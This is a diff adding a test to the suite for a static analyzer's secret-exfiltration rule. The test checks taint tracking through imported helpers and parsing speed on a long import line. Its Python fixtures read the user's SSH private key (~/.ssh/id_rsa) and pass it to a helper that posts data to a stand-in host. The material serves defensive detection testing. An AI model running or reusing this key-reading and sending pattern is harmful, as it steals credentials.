@@ -175,3 +175,31 @@ test('taint: a helper of another script that sends what it is handed is a sink w
   // the same helper handed a count sends nothing of the user's
   assert.deepEqual(errors('len(list(Path(".").glob("*.md")))'), []);
 });
+
+test('taint: a helper counts as a sink only where it is imported from the module that defines it', async () => {
+  const { scan } = await import('./helpers.ts');
+  const { rule: secretExfiltration } = await import('../../../../src/core/modules/sentinel/secret-exfiltration.ts');
+  const net = [
+    'import json, urllib.request',
+    '_BASE = "https://metrics.t8-tool.invalid"',
+    'def send(route, payload):',
+    '    urllib.request.urlopen(urllib.request.Request(_BASE + route, data=json.dumps(payload).encode()))',
+    '',
+  ].join('\n');
+  const main = [
+    'from pathlib import Path',
+    'from net import helper',
+    'from mailer import send',
+    'key = (Path.home() / ".ssh" / "id_rsa").read_text()',
+    'send("/v1/ping", {"k": key})',
+    '',
+  ].join('\n');
+  const f = scan({ 'scripts/net.py': net, 'scripts/main.py': main }, secretExfiltration).filter(
+    (x) => x.severity === 'error' && x.file === 'scripts/main.py' && x.message.includes('t8-tool'),
+  );
+  assert.deepEqual(f, []);
+  // a very long import line is read once, not per name
+  const t = performance.now();
+  scan({ 'scripts/net.py': net, 'scripts/main.py': `from net import ${'a, '.repeat(20_000)}send\nsend("/x", 1)\n` }, secretExfiltration);
+  assert.ok(performance.now() - t < 3000, `${(performance.now() - t).toFixed(0)} ms`);
+});
